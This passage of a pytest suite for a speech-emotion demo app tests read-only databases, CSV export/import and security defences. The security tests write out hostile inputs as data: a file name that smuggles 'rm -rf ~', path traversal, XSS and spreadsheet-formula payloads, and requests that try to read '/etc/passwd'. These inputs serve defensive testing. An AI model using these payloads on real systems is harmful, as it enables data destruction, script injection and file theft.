            assert con.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
            con.close()


def test_read_only_database_opens_reads_and_refuses_writes_clearly(fast_rec, tmp_path):
    """The database (and media) on a read-only volume, or a read-only file: the app starts,
    predictions and the history work, and a correction gets a clear "read-only" message."""
    fs = tmp_path / "fs"
    with tiny_fs(fs, "4m") as real:
        url = f"sqlite:///{fs / 'c.db'}"
        with CorrectionStore(url, media_dir=fs / "media") as s:
            s.add(str(ANGRY), "angry", annotator="before")
        if real:
            how = "read-only tmpfs"
            ok = subprocess.run(["mount", "-o", "remount,ro", str(fs)],
                                capture_output=True).returncode == 0
            assert ok
        elif os.geteuid() != 0:
            how = "chmod"
            for p in [fs, *fs.rglob("*")]:
                p.chmod(0o555 if p.is_dir() else 0o444)
        else:
            how = "mode=ro URL"
            url = f"sqlite:///file:{fs / 'c.db'}?mode=ro&uri=true"
        try:
            store = CorrectionStore(url, media_dir=fs / "media")
            try:
                assert store.read_only
                h = Handlers(fast_rec, store, work_dir=tmp_path / "work")
                out = h.analyse(str(ANGRY), 0.5)
                assert "_error" not in out                                  # predictions work
                _assert_store_message(h.correct(out["state"], "sad"), "read-only")
                with pytest.raises(StoreError, match="read-only"):
                    h.api_correct(str(ANGRY), "sad")
                hist = h.history()
                assert list(hist["history"]["annotator"]) == ["before"]      # reads work
                assert h.api_predict(str(ANGRY), "")["label"] in fast_rec.labels
                path = h.export("csv")["export_file"]                       # export works
                assert len(Path(path).read_text().splitlines()) == 2
            finally:
                store.close()
        finally:
            if real:
                subprocess.run(["mount", "-o", "remount,rw", str(fs)], capture_output=True)
            elif how == "chmod":
                for p in [fs, *fs.rglob("*")]:
                    p.chmod(0o755 if p.is_dir() else 0o644)
        with CorrectionStore(f"sqlite:///{fs / 'c.db'}", media_dir=fs / "media") as s:
            assert not s.read_only and s.add(str(ANGRY), "sad") == 2
        REPORT.setdefault("faults", {})["read_only"] = {"how": how, "lost": 0}


def test_read_only_postgres_session_gets_the_same_message(fast_rec, tmp_path):
    """PostgreSQL in a read-only session (a standby, or default_transaction_read_only): the
    store opens, reads work, a correction gets the clear "read-only" message."""
    with private_pg_schema() as (base, schema):
        with CorrectionStore(schema_url(base, schema), media_dir=tmp_path / "media") as s:
            s.add(str(ANGRY), "angry", annotator="before")
        ro = schema_url(base, schema, "-cdefault_transaction_read_only=on")
        with CorrectionStore(ro, media_dir=tmp_path / "media") as store:
            h = Handlers(fast_rec, store, work_dir=tmp_path / "w")
            out = h.analyse(str(ANGRY), 0.5)
            assert "_error" not in out
            _assert_store_message(h.correct(out["state"], "sad"), "read-only")
            assert list(h.history()["history"]["annotator"]) == ["before"]
    REPORT.setdefault("faults", {})["read_only_postgres"] = {"lost": 0}


@pytest.mark.slow
def test_export_backup_import_round_trip_through_the_cli(tmp_path, capsys):
    """`python -m emodemo corrections backup / export / import`: the backup is the same
    database; an exported CSV imported into an empty store gives the same corrections
    (hostile text included, formula guards undone), and exports the same again."""
    src = tmp_path / "src.db"
    with CorrectionStore(f"sqlite:///{src}", media_dir=tmp_path / "media") as s:
        hostile = XSS + SQLI + FORMULAS + ["line1\nline2, \"quoted\"", "ünïcødé 声音 😀", "'plain"]
        for i, text in enumerate(hostile):
            pred = {"label": DEFAULT_LABELS[(i + 1) % 7], "audio": {"happy": 0.25, "sad": 0.75},
                    "text": None if i % 2 else {"happy": 0.5, "sad": 0.5},
                    "fused": {"happy": 0.4, "sad": 0.6}, "transcript": f"shown {text}",
                    "bundle": "default", "bundle_version": "1"}
            s.add((_writer_clip(i % 4), SR), DEFAULT_LABELS[i % 7], annotator=text[:200],
                  note=text, transcript=text, prediction=pred,
                  start=0.1 if i % 3 == 0 else None, end=0.4 if i % 3 == 0 else None)
        n = len(hostile)

    def corrections(*args):
        r = subprocess.run([sys.executable, "-m", "emodemo", "corrections", *args],
                           capture_output=True, text=True, cwd=ROOT, timeout=120, env=CLI_ENV)
        assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr
        return r.stdout

    db = ["--db", f"sqlite:///{src}", "--media-dir", str(tmp_path / "media")]
    out = corrections(*db, "backup", str(tmp_path / "backup.db"))       # a real process ...
    assert "backed up" in out
    assert "exported" in corrections(*db, "export", str(tmp_path / "out.csv"))
    # ... and the same entry point in-process (import needs torch, which is loaded here)
    dst = ["--db", f"sqlite:///{tmp_path / 'dst.db'}", "--media-dir", str(tmp_path / "media2")]
    assert emodemo_main(["corrections", *dst, "import", str(tmp_path / "out.csv")]) == 0
    assert capsys.readouterr().out.strip() == f"imported {n} corrections, 0 rows with errors"
    assert emodemo_main(["corrections", *dst, "export", str(tmp_path / "again.csv")]) == 0

    def rows(path: Path) -> list[dict]:
        with open(path, newline="", encoding="utf-8") as f:
            return [{k: v for k, v in r.items() if k not in ("id", "created_at", "updated_at",
                                                              "media_path")}
                    for r in csv.DictReader(f)]

    first, again = rows(tmp_path / "out.csv"), rows(tmp_path / "again.csv")
    assert len(first) == n
    key = lambda r: r["note"]  # noqa: E731
    assert sorted(first, key=key) == sorted(again, key=key)
    with CorrectionStore(f"sqlite:///{tmp_path / 'dst.db'}", media_dir=tmp_path / "media2") as d, \
            CorrectionStore(f"sqlite:///{tmp_path / 'backup.db'}",
                            media_dir=tmp_path / "media") as b, \
            CorrectionStore(f"sqlite:///{src}", media_dir=tmp_path / "media") as s:
        orig = s.corrections()
        assert b.corrections() == orig
        strip = lambda r: {k: v for k, v in r.items()  # noqa: E731
                           if k not in ("id", "created_at", "updated_at", "media_path")}
        assert sorted(map(json.dumps, map(strip, d.corrections()))) == \
            sorted(map(json.dumps, map(strip, orig)))
        assert {r.note for r in d.corrections()} >= set(FORMULAS)     # verbatim again
    REPORT["round_trip"] = {"corrections": n, "lost": 0}


# ==== 3. security ================================================================================
def test_stored_media_names_are_content_hashes_not_user_names(app, store, tmp_path):
    """File names from uploads never reach the media folder: traversal segments, shell and HTML
    metacharacters, a leading dash, an API caller's orig_name."""
    up = tmp_path / "uploads"
    (up / "a" / "b").mkdir(parents=True)
    names = ["evil.wav;rm -rf ~", "-rf.wav", "<img src=x onerror=alert(1)>.wav", "ünï 声音.wav",
             "..wav", "x" * 200 + ".wav", "concat:evil.wav", "evil.php.wav", "noext"]
    paths = []
    for i, name in enumerate(names):
        p = up / name
        sf.write(str(p), _writer_clip(i), SR, format="WAV")
        paths.append(str(p))
    sf.write(str(up / "evil.wav"), _writer_clip(99), SR)
    paths.append(str(up / "a" / "b" / ".." / ".." / "evil.wav"))                 # ../../evil.wav
    before = {p for p in tmp_path.rglob("*")}
    ids = [app.api_correct(p, "happy")["id"] for p in paths]
    ids.append(app.api_correct({"path": str(up / "evil.wav"), "orig_name": "../../evil.wav",
                                "meta": {"_type": "gradio.FileData"}}, "sad")["id"])
    state = app.analyse(str(up / names[2]), 0.5)["state"]
    ids.append(app.correct(state, "sad")["stored_id"])
    media = store.media_dir
    files = sorted(p for p in media.rglob("*") if p.is_file())
    assert len(files) == len(names) + 1
    for f in files:
        sha = _sha(f)
        assert f.relative_to(media).as_posix() == f"{sha[:2]}/{sha}.wav"
    new = {p for p in tmp_path.rglob("*")} - before
    assert all(media in p.parents or p == media or p.parent == store.db_file.parent
               or (tmp_path / "work") in [p, *p.parents] for p in new), new
    assert len({store.get(i).media_sha256 for i in ids}) == len(names) + 1


def _rendered_strings(obj) -> list[str]:
    """Every string a handler output would render: Markdown, dropdown labels, and figures (as
    their JSON). Not the state and not the transcript box (a Textbox value is plain text)."""
    out = []
    if isinstance(obj, str):
        out.append(obj)
    elif isinstance(obj, dict):
        for k, v in obj.items():
            if k not in ("state", "_error", "history", "agreement", "transcript"):
                out += _rendered_strings(v)
    elif isinstance(obj, (list, tuple)):
        for v in obj:
            out += _rendered_strings(v)
    elif hasattr(obj, "to_plotly_json"):
        out.append(json.dumps(obj.to_plotly_json(), default=str))
    return out


def _no_live_markup(texts) -> None:
    """No HTML tag a browser would run, and (in Markdown; figures do not render Markdown) no
    live link. Escaped forms are fine: they are shown as text."""
    for t in texts:
        low = t.lower()
        assert "<script" not in low and "<img" not in low, t[:300]
        if not t.startswith('{"data"'):
            assert not re.search(r"(?<!\\)\]\(javascript:", low), t[:300]


@pytest.mark.slow
def test_hostile_text_is_escaped_wherever_it_is_shown(fast_rec, store, tmp_path):
    """<script>, <img onerror> and Markdown links as ASR transcript, edited transcript,
    annotator, note and file name: escaped in the status, summary, confirmation, toast,
    timeline hover and segment list; verbatim plain-text cells in the history table."""
    evil = " ".join(XSS)
    rec = with_asr(fast_rec, FixedASR(evil))
    h = Handlers(rec, store, Limits(long_audio=2.0, segment_len=1.5), work_dir=tmp_path / "w")
    clip = tmp_path / "<img src=x onerror=alert(1)>.wav"
    parts = [np.concatenate([_writer_clip(i), np.zeros(SR // 2, np.float32)]) for i in range(4)]
    sf.write(str(clip), np.concatenate(parts), SR)
    out = h.analyse(str(clip), 0.5)
    assert out["state"] and out["state"]["long"], out["status"]
    texts = _rendered_strings(out)
    assert any("&lt;script&gt;" in t for t in texts)                # shown, as text
    hover = json.dumps(out["timeline_plot"].to_plotly_json(), default=str)
    assert "&lt;script&gt;" in hover and "<script" not in hover
    out2 = h.rerun_text(out["state"], evil, 0.5)
    out3 = h.correct(out2["state"], "sad", XSS[1], XSS[0], evil, 0.5)
    assert "stored_id" in out3, out3
    _no_live_markup(texts + _rendered_strings(out2) + _rendered_strings(out3))
    assert "&lt;img src=x onerror=alert(1)&gt;" in out3["correct_msg"]
    bad = h.correct(out2["state"], "<img src=x onerror=alert(1)>")  # as a label: refused
    _no_live_markup([bad["correct_msg"]])
    r = store.get(out3["stored_id"])
    assert (r.annotator, r.note, r.transcript_corrected) == (XSS[1], XSS[0], evil)  # verbatim
    hist = h.history("all", "<script>")
    assert hist["history"].iloc[0]["annotator"] == XSS[1]            # plain-text cell
    _no_live_markup([hist["history_msg"]])
    # the history tables are plain-text cells and every Markdown output sanitises HTML
    demo = build_app(Settings(preload_asr=False), rec, store)
    props = {c["props"].get("elem_id"): (c["type"], c["props"]) for c in demo.config["components"]}
    assert props["emodemo-history"][1]["datatype"] == "str"
    assert props["emodemo-agreement"][1]["datatype"] == "str"
    for eid in ("emodemo-status", "emodemo-summary", "emodemo-correct-msg", "emodemo-history-msg"):
        assert props[eid][0] == "markdown" and props[eid][1].get("sanitize_html") is True
    # errors shown as a toast or returned by the API are escaped too
    from emodemo.ui import api_errors, bind
    import gradio as gr
    with pytest.raises(gr.Error) as info:
        api_errors(lambda: (_ for _ in ()).throw(EmodemoError(XSS[1])))()
    assert "<img" not in info.value.message and "&lt;img" in info.value.message
    warned = []
    orig = gr.Warning
    gr.Warning = lambda m, *a, **k: warned.append(m)
    try:
        bind(lambda: {"_error": XSS[0], "status": "x"}, ["status"])()
    finally:
        gr.Warning = orig
    assert warned and "<script" not in warned[0]


def test_csv_export_from_the_app_guards_formulas(app, store):
    """Spreadsheet formulas in every free-text field an annotator or API caller controls
    (annotator, note, transcripts, predicted label, model name) come out of the app's CSV export
    with a leading quote; the JSONL export and the database keep them verbatim."""
    for i, f in enumerate(FORMULAS):
        pred = {"label": f[:64], "fused": {"happy": 1.0}, "transcript": f, "bundle": f,
                "bundle_version": f[:100]}
        app.api_correct(str(ANGRY), "happy", transcript=f, annotator=f, note=f, prediction=pred)
    path = app.export("csv")["export_file"]
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for k, v in row.items():
            assert not v.startswith(("=", "+", "-", "@", "\t", "\r")), (k, v)
            if k in ("annotator", "note", "transcript_corrected", "transcript_shown",
                     "predicted_label", "bundle_name"):
                assert v.startswith("'"), (k, v)
    # guarded both ways: a value that already starts with a quote keeps it, unambiguously
    notes = {r["note"] for r in rows}
    assert "''=already quoted" in notes and "'=cmd|' /C calc'!A0" in notes
    jsonl = [json.loads(l) for l in Path(app.export("jsonl")["export_file"]).read_text().splitlines()]
    assert {o["note"] for o in jsonl} == set(FORMULAS)
    assert {r.note for r in store.corrections()} == set(FORMULAS)


def test_sql_metacharacters_are_data(db_url, tmp_path, fast_rec):  # noqa: F811
    """SQL in annotator, note, transcript, predicted label and filters is stored and matched
    verbatim; the tables survive (SQLite and PostgreSQL)."""
    from sqlalchemy import inspect
    store = CorrectionStore(db_url, media_dir=tmp_path / "media")
    try:
        h = Handlers(fast_rec, store, work_dir=tmp_path / "w")
        for s in SQLI:
            h.api_correct(str(ANGRY), "sad", transcript=s, annotator=s, note=s,
                          prediction={"label": s[:64], "fused": {"sad": 1.0}})
        with pytest.raises(StoreError, match="unknown label"):
            store.add(str(ANGRY), SQLI[0])
        assert "unknown label" in h.history(SQLI[0], "")["history_msg"]
        for s in SQLI:
            [r] = store.corrections(annotator=s)
            assert (r.note, r.transcript_corrected, r.predicted_label) == (s, s, s[:64])
            assert len(h.history("all", s)["history"]) >= 1
        names = set(inspect(store.engine).get_table_names())
        assert {"corrections", "media"} <= names
        assert store.stats()["corrections"] == len(SQLI)
    finally:
        store.close()


def test_store_sql_is_parameterised_only():
    """No SQL text in the store or its migrations is built from values (f-strings, +, %, format),
    except the integer PRAGMA busy_timeout; everything else is SQLAlchemy expressions or bound
    parameters."""
    found = []
    files = [*sorted((ROOT / "emodemo" / "store").rglob("*.py")),
             *sorted((ROOT / "emodemo" / "migrations").rglob("*.py"))]
    for path in files:
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if not (isinstance(node, ast.Call) and node.args):
                continue
            fn = node.func
            name = fn.attr if isinstance(fn, ast.Attribute) else getattr(fn, "id", "")
            if name not in ("text", "execute", "exec_driver_sql", "executescript"):
                continue
            arg = node.args[0]
            dynamic = isinstance(arg, (ast.JoinedStr, ast.BinOp)) or (
                isinstance(arg, ast.Call) and getattr(arg.func, "attr", "") == "format")
            if dynamic:
                found.append(f"{path.name}:{node.lineno}: {ast.unparse(arg)}")
    assert len(found) <= 1 and all(
        f.startswith("db.py:") and f.endswith("f'PRAGMA busy_timeout = "
                                                 "{int(SQLITE_BUSY_TIMEOUT_MS)}'")
        for f in found), found


@pytest.mark.slow
def test_app_binds_to_localhost_unless_told_otherwise(fast_rec, tmp_path, monkeypatch):
    """app.py's resolved launch settings: 127.0.0.1 by default, never a public share link;
    --host, EMODEMO_HOST / GRADIO_SERVER_NAME or a Hugging Face Space change it."""
    import gradio as gr

    import app as app_module
    for var in ("SPACE_ID", "EMODEMO_HOST", "GRADIO_SERVER_NAME", "EMODEMO_DB", "GRADIO_SHARE"):
        monkeypatch.delenv(var, raising=False)
    monkeypatch.setattr(emodemo, "load_recognizer", lambda *_a, **_k: fast_rec)
    seen = []
    monkeypatch.setattr(gr.Blocks, "launch", lambda self, **kw: seen.append(kw))
    db = ["--db", f"sqlite:///{tmp_path / 'c.db'}", "--no-preload-asr"]
    assert app_module.main(db) == 0                 # the real app, built and "launched"
    assert seen.pop()["server_name"] == "127.0.0.1"

    class Demo:  # the rest only resolves settings: skip building the Blocks again
        def __init__(self, settings, _rec, _store):
            from emodemo.ui.app import limits_of
            self.emodemo_limits = limits_of(settings)

        def launch(self, **kw):
            seen.append(kw)

    from emodemo import ui as ui_module
    monkeypatch.setattr(ui_module, "build_app", Demo)
    cases = [([], {}, "127.0.0.1"), (["--host", "0.0.0.0"], {}, "0.0.0.0"),
             ([], {"EMODEMO_HOST": "10.1.2.3"}, "10.1.2.3"),
             ([], {"GRADIO_SERVER_NAME": "0.0.0.0"}, "0.0.0.0"),
             ([], {"SPACE_ID": "someone/emodemo"}, "0.0.0.0"),
             (["--host", "127.0.0.1"], {"SPACE_ID": "someone/emodemo"}, "127.0.0.1")]
    for args, env, host in cases:
        with monkeypatch.context() as m:
            for k, v in env.items():
                m.setenv(k, v)
            assert app_module.main([*args, *db]) == 0
        kw = seen.pop()
        assert kw["server_name"] == host, (args, env, kw)
        assert not kw.get("share")
        assert kw["max_file_size"] == 50 * B.MB                 # enforced by the server too


@pytest.mark.slow
def test_launched_app_refuses_bad_uploads_and_server_paths(fast_rec, store, corpus, tmp_path):
    """One launched app, through HTTP: a non-audio upload gets its message, an upload over
    max_file_size is refused by the server, and a FileData pointing at a server file outside
    Gradio's upload folder (the database) is refused; nothing is stored."""
    import urllib.request

    from gradio_client import Client, handle_file

    from conftest import served
    by_name = {c.name: c for c in corpus}
    demo = build_app(Settings(max_file_size="1mb", preload_asr=False), fast_rec, store)
    with served(demo, max_file_size="1mb") as base:
        client = Client(base + "/", verbose=False)
        with pytest.raises(Exception, match="not a readable audio file") as info:
            client.predict(handle_file(str(by_name["text_as_wav"].path)), "", api_name="/predict")
        assert "Traceback" not in str(info.value)
        big = tmp_path / "big.wav"
        sf.write(str(big), np.zeros(SR * 40, np.float32), SR, subtype="PCM_16")   # 1.2 MB
        with pytest.raises(Exception) as info:
            client.predict(handle_file(str(big)), "", api_name="/predict")
        assert re.search(r"too large|max.*size|413|exceed", str(info.value), re.I), info.value

        def call(payload: list) -> str:
            req = urllib.request.Request(f"{base}/gradio_api/call/predict",
                                         data=json.dumps({"data": payload}).encode(),
                                         headers={"Content-Type": "application/json"})
            event = json.loads(urllib.request.urlopen(req, timeout=30).read())["event_id"]
            with urllib.request.urlopen(f"{base}/gradio_api/call/predict/{event}",
                                        timeout=60) as resp:
                return resp.read().decode()

        for secret in (str(store.db_file), "/etc/passwd"):
            stream = call([{"path": secret, "meta": {"_type": "gradio.FileData"}}, "x"])
            assert "event: error" in stream and '"label"' not in stream, stream[:500]
        ok = client.predict(handle_file(str(by_name["sr_44100"].path)), "fine", api_name="/predict")
        assert ok["label"] in fast_rec.labels
        assert store.corrections() == []
